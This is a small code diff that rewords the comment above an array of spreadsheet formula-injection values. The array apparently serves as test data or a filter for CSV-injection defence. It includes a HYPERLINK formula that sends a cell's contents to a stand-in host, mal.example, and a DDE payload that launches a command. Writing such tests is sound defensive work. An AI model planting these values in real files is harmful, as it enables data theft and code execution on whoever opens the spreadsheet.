@@ -1,4 +1,4 @@
-/** What somebody may write for a name so that the spreadsheet of whoever opens the list does something. */
+/** Names that would run a formula in the spreadsheet of a person who opens the list. */
 const commands = [
   'HYPERLINK("http://mal.example?x="&A1,"Error")',
   "cmd|' /C calc'!A0",
